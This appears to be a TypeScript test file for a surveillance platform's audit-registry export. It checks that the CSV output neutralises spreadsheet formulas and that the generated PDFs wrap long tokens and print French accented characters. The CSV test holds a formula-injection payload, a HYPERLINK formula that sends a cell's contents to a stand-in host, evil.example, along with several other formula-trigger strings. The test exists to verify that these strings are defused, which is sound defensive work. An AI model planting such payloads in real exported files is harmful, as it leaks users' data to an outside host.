/** What the committee opens: a CSV that runs no formula, a PDF that prints every character. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { renderLines } from '../../platform/pdf/pdf-writer';
import type { RegistryRow } from './registry';
import { toCsv, toPdf } from './registry-export';

const row = (over: Partial<RegistryRow>): RegistryRow => ({
  seq: 1,
  at: '2026-11-29T10:00:00.000Z',
  type: 'auth.failure',
  login: 'dupont',
  name: 'Jean Dupont',
  rank: 'Brigadier',
  service: 'CIC',
  cameraId: null,
  surface: null,
  data: '{}',
  mac: 'ab'.repeat(32),
  ...over,
});

test('CSV export: a login typed as a formula arrives in the spreadsheet as text', () => {
  const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")';
  const csv = toCsv([
    row({ seq: 1, login: hostile }),
    row({ seq: 2, login: '+33 1 23', name: '-2+3', rank: '@SUM(A1)', service: '\tx' }),
    row({ seq: 3, login: '\r=1', name: 'Léa; "la" Moreau' }),
  ]);
  assert.ok(csv.startsWith('\uFEFF'), 'BOM for Excel');
  const [header, ...cells] = parse(csv, { bom: true, delimiter: ';' }) as string[][];
  assert.equal(header?.[4], 'identifiant');
  assert.equal(cells[0]?.[4], `'${hostile}`);
  assert.deepEqual(cells[1]?.slice(4, 8), ["'+33 1 23", "'-2+3", "'@SUM(A1)", "'\tx"]);
  assert.equal(cells[2]?.[4], "'\r=1");
  assert.equal(cells[2]?.[5], 'Léa; "la" Moreau', 'quoting round-trips');
  for (const r of cells) for (const c of r) assert.doesNotMatch(c, /^[=+\-@\t\r]/);
});

function pdfText(pdf: Buffer, args: string[] = []): string {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'vigie-pdf-')), 'r.pdf');
  fs.writeFileSync(file, pdf);
  return execFileSync('pdftotext', [...args, file, '-'], { encoding: 'utf8' });
}

test('PDF: a token longer than a line is split, never cut; the printed text rejoins the original', async () => {
  const number = 'RJ-2026-042-' + 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'.repeat(6) + '-FIN';
  const wide = 'W'.repeat(150);
  const sentence = `Réquisition ${number} du parquet — caméras 3, 7 et 12 — ${wide} fin.`;
  const pdf = await renderLines([{ text: sentence }, { text: wide, bold: true, size: 12 }], 'pied');
  const printed = pdfText(pdf);
  const squash = (s: string): string => s.replace(/\s+/g, '');
  assert.ok(squash(printed).includes(squash(sentence)), printed);
  assert.ok(squash(printed).includes(squash(sentence) + wide), 'the bold line too');
  // Every word box stays inside the page's right margin (595 pt wide, 42 pt margins).
  const boxes = pdfText(pdf, ['-bbox']);
  const xMax = Math.max(...[...boxes.matchAll(/xMax="([\d.]+)"/g)].map((m) => Number(m[1])));
  assert.ok(xMax <= 595.28 - 42 + 0.5, `text reaches x=${xMax}`);
});

test('PDF: the embedded font prints every French character, and beyond WinAnsi (no ? marks)', async () => {
  const text = 'Événement É œ Œ ’ « » ç à è ù ï ê … € Wałęsa Łódź e\u0301 fin';
  const printed = pdfText(await renderLines([{ text }], 'pied'))
    .trim()
    .split('\n')[0];
  assert.equal(printed, 'Événement É œ Œ ’ « » ç à è ù ï ê … € Wałęsa Łódź é fin');
});

test('registry export PDF: an entry with accents and typographic quotes prints as typed', async () => {
  const rows = [
    row({ seq: 1, type: 'requisition', name: 'Éloïse Lœwy', data: JSON.stringify({ number: 'RJ’œ-É' }) }),
    row({ seq: 2, type: 'view.start', cameraId: 3, surface: 'console-tile', data: '{"viewId":"v1"}' }),
  ];
  const verification = { ok: true as const, rows: 2, head: { seq: 2, mac: 'ab'.repeat(32) } };
  const text = pdfText(await toPdf(rows, {}, verification, 'CIC-Nord'), ['-layout']);
  for (const s of [
    'Événement',
    'Éloïse Lœwy',
    'RJ’œ-É',
    'Réquisition judiciaire',
    'Centre d’information',
    'Édité le',
  ])
    assert.ok(text.includes(s), `${s} in ${text}`);
  assert.doesNotMatch(text, /\?/, 'no character replaced by ?');
});
